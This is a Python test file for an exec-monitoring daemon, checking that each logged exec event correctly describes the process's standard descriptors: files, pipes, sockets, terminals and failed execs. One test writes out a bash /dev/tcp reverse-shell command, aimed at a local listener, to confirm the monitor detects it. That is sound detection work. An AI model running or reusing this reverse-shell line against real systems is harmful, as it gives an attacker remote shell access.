#!/usr/bin/python3
# SPDX-License-Identifier: LGPL-2.1-or-later OR BSD-2-Clause
"""stdin, stdout and stderr against what the process itself says of them right before its exec: by
fstat(), getsockname(), getpeername(), isatty()."""
import base64
import fcntl
import json
import os
import pty
import socket
import stat
import subprocess
import unittest

import harness
from harness import KernelTest

NAMES = ("stdin", "stdout", "stderr")
TRUE = "/bin/true"
FAMILIES = {socket.AF_UNIX: "unix", socket.AF_INET: "inet", socket.AF_INET6: "inet6",
            socket.AF_NETLINK: "netlink", socket.AF_VSOCK: "vsock"}
ANY = 2**32 - 1     # VMADDR_PORT_ANY


def with_exact_bytes(key, value):
    """{key: text}, and its exact bytes, if it is not UTF-8."""
    try:
        return {key: value.decode()}
    except UnicodeDecodeError:
        return {key: value.decode(errors="replace"),
                key + "_base64": base64.b64encode(value).decode()}


def text_of(family, address):
    """As bytes; None: it has none."""
    if family in (socket.AF_INET, socket.AF_INET6):
        host = address[0].partition("%")[0]
        return (b"[%s]:%d" if family == socket.AF_INET6 else b"%s:%d") % (host.encode(), address[1])
    if family == socket.AF_VSOCK:
        return b"%d:%d" % address
    if isinstance(address, str):        # Python gives abstract names as bytes, paths as text
        return os.fsencode(address) or None
    return address.replace(b"\0", b"@") or None


def socket_facts(fd):
    with socket.socket(fileno=os.dup(fd)) as s:
        facts = {"family": FAMILIES[s.family]}
        if s.family == socket.AF_NETLINK:
            return facts
        local = s.getsockname()
        if s.family == socket.AF_UNIX or local[1] not in (0, ANY):
            text = text_of(s.family, local)
            facts |= with_exact_bytes("local", text) if text else {}
        try:
            text = text_of(s.family, s.getpeername())
            facts |= with_exact_bytes("peer", text) if text else {}
        except OSError:
            pass
        return facts


def describe(fd):
    """What an event has to say of it; None: no key."""
    try:
        st = os.fstat(fd)
    except OSError:
        return None
    if fcntl.fcntl(fd, fcntl.F_GETFD) & fcntl.FD_CLOEXEC:
        return None
    if fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_PATH:
        return {"type": "other"}
    target = os.readlink(f"/proc/self/fd/{fd}")
    if stat.S_ISFIFO(st.st_mode):
        dev = {} if target.startswith("pipe:[") else \
            {"dev": f"{os.major(st.st_dev)}:{os.minor(st.st_dev)}"}
        return {"type": "pipe"} | dev | {"ino": st.st_ino}
    if stat.S_ISSOCK(st.st_mode):
        return {"type": "socket", "ino": st.st_ino} | socket_facts(fd)
    if stat.S_ISCHR(st.st_mode) and st.st_rdev == os.makedev(1, 3):
        return {"type": "null"}
    if os.isatty(fd):
        return {"type": "tty"}
    if stat.S_ISREG(st.st_mode):
        return {"type": "memfd" if target.startswith("/memfd:") else "file"}
    return {"type": "other"}


def is_own_terminal(fd):
    try:
        os.tcgetpgrp(fd)
    except OSError:
        return False
    return True


def put(*fds):
    """They become 0, 1, 2; None is closed."""
    copies = [fd if fd is None else fcntl.fcntl(fd, fcntl.F_DUPFD, 100) for fd in fds]
    for fd, copy in enumerate(copies):
        if copy is None:
            os.close(fd)
        else:
            os.dup2(copy, fd)
            os.close(copy)


class DescriptorTest(KernelTest):
    program = TRUE
    kind = "exec"

    def start(self, arrange, fork=os.fork):
        """The process after `arrange` said this of itself, and executed; returns that and its
        PID."""
        reading, writing = os.pipe()
        self.since = harness.timestamp()
        forked = fork()
        pid = forked[0] if isinstance(forked, tuple) else forked
        if pid == 0:
            try:
                arrange()
                said = {name: describe(fd) for fd, name in enumerate(NAMES)}
                said["interactive"] = (is_own_terminal(0) and is_own_terminal(2)) or None
                os.write(writing, json.dumps(said).encode())
                os.execve(self.program, ["true"], {})
            finally:
                os._exit(99)
        os.close(writing)
        with open(reading, "rb") as file:
            said = json.loads(file.read() or b"null")
        os.waitpid(pid, 0)
        return said, pid

    def check(self, arrange, fork=os.fork):
        said, pid = self.start(arrange, fork)
        event, = self.daemon.of(pid, self.kind, since=self.since)
        self.assertEqual({key: event.get(key) for key in (*NAMES, "interactive")}, said)
        return event

    def open(self, path, flags=os.O_RDWR):
        fd = os.open(path, flags | os.O_CLOEXEC, 0o600)
        self.addCleanup(os.close, fd)
        return fd

    def socket(self, *args):
        s = socket.socket(*args)
        self.addCleanup(s.close)
        return s

    def connected(self, family, address):
        """A listener, a client, and the other end of that."""
        listener, client = self.socket(family), self.socket(family)
        listener.bind(address)
        listener.listen()
        client.connect(listener.getsockname())
        accepted, _ = listener.accept()
        self.addCleanup(accepted.close)
        return listener.fileno(), client.fileno(), accepted.fileno()


class Files(DescriptorTest):
    def test_null_file_and_a_device(self):
        null, zero = self.open("/dev/null"), self.open("/dev/zero")
        file = self.open(os.path.join(self.folder, "file"), os.O_RDWR | os.O_CREAT)
        event = self.check(lambda: put(null, file, zero))
        self.assertEqual([event[name]["type"] for name in NAMES], ["null", "file", "other"])

    def test_closed_has_no_key(self):
        null = self.open("/dev/null")
        for fds in ((None, null, null), (null, None, null), (null, null, None), (None,) * 3):
            self.check(lambda fds=fds: put(*fds))

    def test_closed_on_exec_has_no_key(self):
        null = self.open("/dev/null")

        def arrange():
            put(null, null, null)
            for fd in (0, 2):
                fcntl.fcntl(fd, fcntl.F_SETFD, fcntl.FD_CLOEXEC)

        event = self.check(arrange)
        self.assertEqual([name in event for name in NAMES], [False, True, False])

    def test_memory_and_files_without_a_name(self):
        path = os.path.join(self.folder, "gone")
        gone = self.open(path, os.O_RDWR | os.O_CREAT)
        os.unlink(path)
        memory = os.memfd_create("memory")
        self.addCleanup(os.close, memory)
        unnamed = self.open(self.folder, os.O_RDWR | os.O_TMPFILE)
        event = self.check(lambda: put(memory, gone, unnamed))
        self.assertEqual([event[name]["type"] for name in NAMES], ["memfd", "file", "file"])

    def test_what_only_names_a_file(self):
        fifo, node = (os.path.join(self.folder, name) for name in ("path-fifo", "path-node"))
        os.mkfifo(fifo)
        self.socket(socket.AF_UNIX).bind(node)
        null, fifo, node = (self.open(path, os.O_PATH) for path in ("/dev/null", fifo, node))
        event = self.check(lambda: put(null, fifo, node))
        self.assertEqual([event[name]["type"] for name in NAMES], ["other"] * 3)

    def test_folder_and_event_counter(self):
        folder, counter = self.open(self.folder, os.O_RDONLY), os.eventfd(0)
        self.addCleanup(os.close, counter)
        self.check(lambda: put(folder, counter, folder))

    def test_same_file_opened_once_and_again(self):
        one, two = self.open("/dev/null"), self.open("/dev/null")
        for fds in ((one, one, one), (one, two, one), (one, two, two), (None, one, one)):
            self.check(lambda fds=fds: put(*fds))

    def test_large_table(self):
        null = self.open("/dev/null")
        reading, writing = os.pipe()

        def arrange():
            put(null, writing, null)
            for fd in range(200, 1000):
                os.dup2(1, fd)

        self.check(arrange)
        os.close(reading)
        os.close(writing)

    def test_pipes(self):
        fifo = os.path.join(self.folder, "fifo")
        os.mkfifo(fifo)
        fifo = self.open(fifo)
        reading, writing = os.pipe()
        event = self.check(lambda: put(reading, writing, fifo))
        self.assertEqual(event["stdin"], event["stdout"])
        self.assertIn("dev", event["stderr"])
        os.close(reading)
        os.close(writing)

    def test_pipeline_is_joined_by_its_pipes(self):
        since = harness.timestamp()
        subprocess.run(["sh", "-c", f"{TRUE} 1 | {TRUE} 2 | {TRUE} 3"], check=True,
                       stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL)
        events = {e["argv"][1]: e for e in self.daemon.sync()
                  if e["event"] == "exec" and e["time"] >= since and e["filename"] == TRUE}
        for left, right in (("1", "2"), ("2", "3")):
            self.assertEqual(events[left]["stdout"]["type"], "pipe")
            self.assertEqual(events[left]["stdout"], events[right]["stdin"])
        self.assertNotEqual(events["1"]["stdout"], events["2"]["stdout"])


class Sockets(DescriptorTest):
    def test_v4(self):
        _, client, accepted = fds = self.connected(socket.AF_INET, ("127.0.0.1", 0))
        event = self.check(lambda: put(*fds))
        self.assertEqual(event["stdout"]["local"], event["stderr"]["peer"])
        unbound, udp = self.socket(), self.socket(socket.AF_INET, socket.SOCK_DGRAM)
        udp.connect(("127.0.0.1", 9))
        self.check(lambda: put(unbound.fileno(), udp.fileno(), client))
        self.check(lambda: put(accepted, accepted, accepted))

    def test_v4_that_is_not_connected_yet_or_any_more(self):
        closed = self.socket()
        closed.setblocking(False)
        with self.socket() as other:
            other.bind(("127.0.0.1", 0))
            with self.assertRaises(BlockingIOError):
                closed.connect(other.getsockname())     # nobody listens
        client, (_, one, two) = self.socket(), self.connected(socket.AF_INET, ("127.0.0.1", 0))
        client.bind(("0.0.0.0", 0))
        with socket.socket(fileno=os.dup(two)) as other:
            other.shutdown(socket.SHUT_RDWR)
        self.check(lambda: put(closed.fileno(), client.fileno(), one))

    @unittest.skipUnless(os.path.exists("/proc/net/if_inet6"), "no IPv6")
    def test_v6(self):
        self.check(lambda: put(*self.connected(socket.AF_INET6, ("::1", 0))))
        listener = self.socket(socket.AF_INET6)
        listener.bind(("::", 0))
        listener.listen()
        client = self.socket()
        client.connect(("127.0.0.1", listener.getsockname()[1]))
        accepted, _ = listener.accept()
        event = self.check(lambda: put(accepted.fileno(), client.fileno(), listener.fileno()))
        self.assertTrue(event["stdin"]["peer"].startswith("[::ffff:127.0.0.1]:"))
        accepted.close()

    def test_unix_path(self):
        path = os.path.join(self.folder, "socket")
        event = self.check(lambda: put(*self.connected(socket.AF_UNIX, path)))
        self.assertEqual([event[name].get("local") for name in NAMES], [path, None, path])
        self.assertEqual(event["stdout"]["peer"], path)

    def test_unix_path_of_any_bytes(self):
        def arrange(path):
            os.chdir(self.folder)
            put(*self.connected(socket.AF_UNIX, path))

        for path in (b"r\xff\x7f\n\"\\", b"@relative", b"x" * 107):
            self.check(lambda path=path: arrange(path))

    def test_unix_abstract(self):
        for name in (b"\0execsnoopd", b"\0a\0b\0", b"\0" + b"n" * 107, b"\0\xff"):
            event = self.check(lambda name=name: put(*self.connected(socket.AF_UNIX, name)))
            self.assertEqual(event["stdout"]["peer"][0], "@")

    def test_unix_pair_and_datagrams(self):
        one, two = socket.socketpair()
        event = self.check(lambda: put(one.fileno(), two.fileno(), one.fileno()))
        self.assertNotIn("local", event["stdin"])
        self.assertNotIn("peer", event["stdin"])
        two.close()
        client, server = (self.socket(socket.AF_UNIX, socket.SOCK_DGRAM) for _ in range(2))
        server.bind(b"\0server")
        client.connect(b"\0server")
        self.check(lambda: put(client.fileno(), server.fileno(), one.fileno()))
        one.close()

    def test_netlink(self):
        netlink = self.socket(socket.AF_NETLINK, socket.SOCK_RAW)
        self.check(lambda: put(netlink.fileno(), netlink.fileno(), None))

    def test_vsock(self):
        try:
            listener, unbound = (self.socket(socket.AF_VSOCK, socket.SOCK_STREAM) for _ in "12")
            listener.bind((ANY, ANY))
        except OSError as e:
            self.skipTest(f"no vsock: {e}")
        said, pid = self.start(lambda: put(listener.fileno(), unbound.fileno(), None))
        event, = self.daemon.of(pid, "exec", since=self.since)
        for name in ("stdin", "stdout"):
            self.assertEqual(event[name]["family"], "vsock")
            # the addresses need the module's BTF
            self.assertIn(event[name].get("local"), (said[name].get("local"), None))
            self.assertNotIn("peer", event[name])
        if not os.path.exists("/sys/module/vsock/initstate"):   # no module: in the kernel's BTF
            self.assertEqual(event["stdin"].get("local"), said["stdin"]["local"])

    def test_reverse_shell_is_one_event(self):
        """What a victim is made to run."""
        with self.socket() as listener:
            listener.bind(("127.0.0.1", 0))
            listener.listen()
            port = listener.getsockname()[1]
            shell = subprocess.Popen(
                ["/bin/bash", "-c", f"exec 3<>/dev/tcp/127.0.0.1/{port}; exec sh <&3 >&3 2>&3"])
            victim, address = listener.accept()
            victim.sendall(b"exit\n")
            shell.wait()
            victim.close()
        event = [e for e in self.daemon.of(shell.pid, "exec") if e["comm"] == "sh"][-1]
        for name in NAMES:
            self.assertEqual(event[name]["type"], "socket")
            self.assertEqual(event[name]["peer"], f"127.0.0.1:{port}")
            self.assertEqual(event[name]["local"], "%s:%d" % address)


class Terminals(DescriptorTest):
    def test_own_terminal_is_interactive(self):
        event = self.check(lambda: None, pty.fork)
        self.assertIs(event["interactive"], True)

    def test_output_does_not_matter_and_input_and_errors_do(self):
        null = self.open("/dev/null")
        for fds, interactive in (((0, null, 2), True), ((null, 1, 2), None), ((0, 1, null), None),
                                 ((0, 1, None), None)):
            event = self.check(lambda fds=fds: put(*fds), pty.fork)
            self.assertIs(event.get("interactive"), interactive)

    def test_other_names_of_it(self):
        def arrange():
            tty = os.open("/dev/tty", os.O_RDWR)
            put(tty, os.open(os.ttyname(1), os.O_RDWR), tty)

        self.assertIs(self.check(arrange, pty.fork)["interactive"], True)

    def test_terminal_of_others(self):
        master, slave = pty.openpty()

        def arrange():
            os.setsid()
            put(slave, master, slave)

        event = self.check(arrange)
        self.assertEqual(event["stdin"], {"type": "tty"})
        self.assertNotIn("interactive", event)
        os.close(master)
        os.close(slave)


class Callers(DescriptorTest):
    """Of what failed, the descriptors are the caller's: nothing was closed."""

    settings = {"Capture": {"FailedExecs": "yes", "FailedExecsIgnore": ""}}
    program = "/nowhere/true"
    kind = "exec_failed"

    def test_what_failed(self):
        one, two = socket.socketpair()
        null = self.open("/dev/null")
        self.check(lambda: put(one.fileno(), null, None))
        one.close()
        two.close()


class Switch(DescriptorTest):
    settings = {"Capture": {"Descriptors": "no"}}

    def test_not_asked_for(self):
        _, pid = self.start(lambda: None)
        event, = self.daemon.of(pid, "exec", since=self.since)
        self.assertFalse(set(NAMES) & set(event))
        self.daemon.reload({"Capture": {}})
        self.check(lambda: None)


if __name__ == "__main__":
    harness.main()
